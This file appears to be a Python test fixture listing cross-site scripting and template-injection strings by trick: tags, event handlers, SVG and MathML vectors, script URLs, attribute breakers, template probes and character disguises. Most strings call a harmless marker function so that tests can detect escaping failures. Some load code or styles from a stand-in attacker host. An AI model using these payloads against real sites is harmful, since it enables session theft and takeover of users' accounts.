"""Texts that would do something if a page took them for more than text, by the trick they try.

Each calls ``planted()`` or a dialog where it can run, so that a browser which listens to both
notices every one. They go into every field of a hook and into every parameter of a search.
"""

from collections.abc import Mapping
from typing import Final

TAGS: Final = (
    "<script>planted()</script>",
    "<SCRIPT>planted()</SCRIPT>",
    "</script><script>planted()</script>",
    "</title><script>planted()</script>",
    "</textarea><script>planted()</script>",
    "</pre></code></blockquote><script>planted()</script>",
    "--><script>planted()</script><!--",
    "]]><script>planted()</script>",
    "<scr<script>ipt>planted()</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=data:text/javascript,planted()></script>",
    "<iframe srcdoc='<script>parent.planted()</script>'></iframe>",
    "<iframe src=javascript:parent.planted()></iframe>",
    "<object data=javascript:planted()></object>",
    "<embed src=javascript:planted()>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:planted()'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><button autofocus>planted</button></form>",
    "<template shadowrootmode=open><img src=x onerror=planted()></template>",
    "<plaintext>planted",
    "<noscript><p title='</noscript><img src=x onerror=planted()>'>",
)
"""Elements that run, load or swallow what follows."""

HANDLERS: Final = (
    "<img src=x onerror=planted()>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=planted()>",
    "<image src=x onerror=planted()>",
    "<body onload=planted()>",
    "<input autofocus onfocus=planted()>",
    "<select autofocus onfocus=planted()>",
    "<details open ontoggle=planted()>",
    "<video><source onerror=planted()></video>",
    "<audio src=x onerror=planted()>",
    "<marquee onstart=planted()>",
    "<b onanimationstart=planted() style=animation-name:x>",
    "<p onclick=confirm(1)>press me</p>",
    "<xss onfocus=planted() autofocus tabindex=1>",
    "<img src=x onerror=planted`1`>",
    "<img src=x onerror=\u0022prompt(1)\u0022 ",
)
"""Elements that run by an event."""

VECTORS: Final = (
    "<svg onload=planted()>",
    "<svg/onload=planted()>",
    "<svg><script>planted()</script></svg>",
    "<svg><animate onbegin=planted() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=planted()/>#x'/></svg>",
    "<svg><a xlink:href=javascript:planted()><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=planted()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=planted()></style></mglyph></table>",
    "<math href=javascript:planted()>x</math>",
)
"""Foreign content, where a parser changes its rules."""

ADDRESSES: Final = (
    "javascript:planted()",
    "JaVaScRiPt:planted()",
    "java\tscript:planted()",
    "\u0001javascript:planted()",
    "javascript://shop.example/%0aplanted()",
    "vbscript:planted()",
    "data:text/html,<script>planted()</script>",
    "data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=",
    "//evil.example/x",
    "https://shop.example/'onmouseover='planted()",
    'https://shop.example/"onmouseover="planted()',
    "https://shop.example@evil.example/<script>planted()</script>",
    "blob:https://evil.example/x",
)
"""Addresses that must not become links, or must become links that hold nothing else."""

BREAKERS: Final = (
    '"><script>planted()</script>',
    "'><script>planted()</script>",
    '" onmouseover="planted()" x="',
    "' onfocus='planted()' autofocus x='",
    "` onfocus=`planted()` autofocus",
    '" autofocus onfocus=planted() tabindex=1 "',
    "</a><a href=javascript:planted()>here</a>",
    "</mark></div></li></ol><script>planted()</script>",
    '\\"><img src=x onerror=planted()>',
    '"}};planted();//',
    "';planted();//",
)
"""Ends of attributes, elements and strings."""

TEMPLATES: Final = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1,2) %}planted{% endfor %}",
    "{# planted #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('planted()')()}}",
)
"""Template languages, on the server and in scripts."""

DISGUISES: Final = (
    "＜script＞planted()＜/script＞",
    "<ſcript>planted()</ſcript>",
    "<\u0130mg src=x onerror=planted()>",
    "<scr\u0000ipt>planted()</scr\u0000ipt>",
    "<\u0000img src=x onerror=planted()>",
    "\ufeff<img src=x onerror=planted()>",
    "\u202e>tpircs/<)(detnalp>tpircs<",
    "\u2028<img src=x onerror=planted()>\u2029",
    "&lt;script&gt;planted()&lt;/script&gt;",
    "&#60;script&#62;planted()&#60;/script&#62;",
    "%3Cscript%3Eplanted()%3C/script%3E",
    "\\u003cscript\\u003eplanted()\\u003c/script\\u003e",
    "+ADw-script+AD4-planted()+ADw-/script+AD4-",
    "\ud83c<img src=x onerror=planted()>",
    "<img src=x\u000conerror=planted()>",
    "<img src=x\ronerror=planted()>",
    "\u0338\u0338><img src=x onerror=planted()>",
)
"""Look-alikes, double escapes, controls and halves of characters."""

PAYLOADS: Final[Mapping[str, tuple[str, ...]]] = {
    "tags": TAGS,
    "handlers": HANDLERS,
    "vectors": VECTORS,
    "addresses": ADDRESSES,
    "breakers": BREAKERS,
    "templates": TEMPLATES,
    "disguises": DISGUISES,
}
"""All of them, by trick."""
